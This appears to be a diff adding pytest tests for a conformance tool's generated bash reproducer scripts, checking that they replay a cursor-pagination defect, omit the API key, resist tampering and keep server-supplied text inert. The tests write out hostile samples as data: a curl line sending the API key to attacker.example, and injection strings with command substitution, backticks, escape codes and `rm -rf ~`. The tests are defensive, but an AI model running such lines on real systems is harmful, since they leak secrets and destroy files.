@@ -1,0 +1,115 @@
+"""reproduce/<ID>.sh: run with bash against the live faulty server, a reproducer replays the walk,
+following the cursors the live pages give, and shows the defect; it holds no key, target text
+in it stays inert, and `verify` refuses a changed script."""
+
+from __future__ import annotations
+
+import json
+import os
+import re
+import shutil
+import subprocess
+import sys
+from collections.abc import Iterator
+from pathlib import Path
+
+import pytest
+
+from conformance.exchange import Exchange
+from conformance.reference.server import ReferenceConfig, start_background
+from conformance.reports.reproducers import build_script
+from tests.reports.conftest import API_KEY, CliRun, run_cli
+
+STEP = re.compile(r"^step (\d+)[^:]*: GET \S*?starting_after=<the last of step (\d+)>", re.M)
+
+
+@pytest.fixture(scope="module")
+def inclusive(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[str, Path]]:
+    """A server whose `starting_after` page starts with the cursor itself, and a run against it."""
+    with start_background(ReferenceConfig(api_key=API_KEY, fault="cursor-inclusive")) as server:
+        report_dir = tmp_path_factory.mktemp("inclusive") / "reports"
+        code, _, _ = run_cli(["run", "--base-url", server.base_url, "--api-key", API_KEY, "--profile", "quick",
+                              "--quiet", "--report-dir", str(report_dir)])
+        assert code == 1
+        yield server.base_url, report_dir
+
+
+def _bash(script: Path, env: dict[str, str], cwd: Path | None = None) -> subprocess.CompletedProcess[str]:
+    # This venv's python3 first on PATH: the scripts call python3 a few times per step.
+    path = f"{Path(sys.executable).parent}{os.pathsep}{os.environ['PATH']}"
+    return subprocess.run(["bash", str(script)], env={"PATH": path, **env}, cwd=cwd,
+                          capture_output=True, text=True, timeout=120)
+
+
+def _now_ids(output: str) -> dict[int, list[str]]:
+    """Step number -> the ids the live server listed, read from the script's output."""
+    ids: dict[int, list[str]] = {}
+    for block in re.split(r"^(?=step \d+)", output, flags=re.M):
+        number = re.match(r"step (\d+)", block)
+        now = re.search(r"^  now: .*\n    ids: (.*)$", block, re.M)
+        if number and now:
+            ids[int(number.group(1))] = now.group(1).split()
+    return ids
+
+
+def test_the_walk_replayed_live_shows_the_repeated_item(inclusive: tuple[str, Path]) -> None:
+    _, report_dir = inclusive
+    script = report_dir / "reproduce" / "PAG-001.sh"
+    assert os.access(script, os.X_OK) and API_KEY not in script.read_text()
+    done = _bash(script, {"CONFORMANCE_API_KEY": API_KEY})
+    assert done.returncode == 0, done.stderr
+    chained = [(int(a), int(b)) for a, b in STEP.findall(done.stdout)]
+    assert chained, "the script follows cursors from earlier pages"
+    ids = _now_ids(done.stdout)
+    # The defect, read from what the live server sent: the page after a cursor starts with the cursor.
+    assert all(ids[step][0] == ids[parent][-1] for step, parent in chained)
+    assert "What to look at (PAG-001, fail):" in done.stdout
+
+
+def test_without_the_key_the_script_says_so(inclusive: tuple[str, Path]) -> None:
+    done = _bash(inclusive[1] / "reproduce" / "PAG-001.sh", {})
+    assert done.returncode != 0 and "set CONFORMANCE_API_KEY" in done.stderr
+
+
+def test_a_conformant_run_has_no_reproducers(clean_run: CliRun) -> None:
+    assert not (clean_run.report_dir / "reproduce").exists()
+
+
+def test_verify_refuses_a_changed_reproducer(inclusive: tuple[str, Path], tmp_path: Path) -> None:
+    copy = tmp_path / "copy"
+    shutil.copytree(inclusive[1], copy)
+    assert run_cli(["verify", str(copy)])[0] == 0
+    script = copy / "reproduce" / "PAG-001.sh"
+    script.write_text(script.read_text() + 'curl -d "$CONFORMANCE_API_KEY" https://attacker.example\n')
+    code, _, err = run_cli(["verify", str(copy)])
+    assert code == 1 and "reproduce/PAG-001.sh differs from what the evidence gives: do not run it" in err
+
+
+def test_target_text_stays_inert(tmp_path: Path) -> None:
+    hostile = "cs_1'$(touch pwned)'\x1b[31m`touch pwned2`"
+    first = Exchange(0, "walk:2", "/v1/checkout/sessions", [("limit", "2")], status=200, body=json.dumps(
+        {"object": "list", "data": [{"id": "cs_0"}, {"id": hostile}], "has_more": True, "url": "/x"}))
+    second = Exchange(1, "walk:2", "/v1/checkout/sessions", [("limit", "2"), ("starting_after", hostile)],
+                      status=200, body='{"object": "list", "data": [], "has_more": false}')
+    requirement = {"id": "PAG-001", "level": "MUST", "verdict": "fail", "text": "walk\n$(touch pwned3)",
+                   "evidence": [{"message": "x'; touch pwned4; echo '\nrm -rf ~", "expected": "$(touch pwned5)",
+                                 "actual": hostile, "exchanges": [{"seq": 1}]}]}
+    script = tmp_path / "PAG-001.sh"
+    text = build_script(requirement, [first, second], "http://127.0.0.1:9")
+    assert text is not None and "\x1b" not in text
+    script.write_text(text)
+    assert "cursor_1=$(field" in text  # the hostile id is taken from the live page, never pasted as code
+    done = _bash(script, {"CONFORMANCE_API_KEY": API_KEY}, cwd=tmp_path)
+    assert done.returncode == 0, done.stderr
+    assert not list(tmp_path.glob("pwned*")) and "\x1b" not in done.stdout
+    assert "no answer" in done.stdout  # port 9 (discard) refuses: the script still runs to its end
+
+
+def test_a_new_run_leaves_no_script_or_signature_of_an_old_one(inclusive: tuple[str, Path], tmp_path: Path) -> None:
+    copy = tmp_path / "copy"
+    shutil.copytree(inclusive[1], copy)
+    (copy / "certificate.sig").write_bytes(b"\0" * 64)  # as if an earlier run had been signed
+    code, _, _ = run_cli(["run", "--report-dir", str(copy), "--api-key", API_KEY, "--profile", "quick", "--quiet"])
+    assert code == 0
+    assert not (copy / "reproduce").exists() and not (copy / "certificate.sig").exists()
+    assert run_cli(["verify", str(copy)])[0] == 0
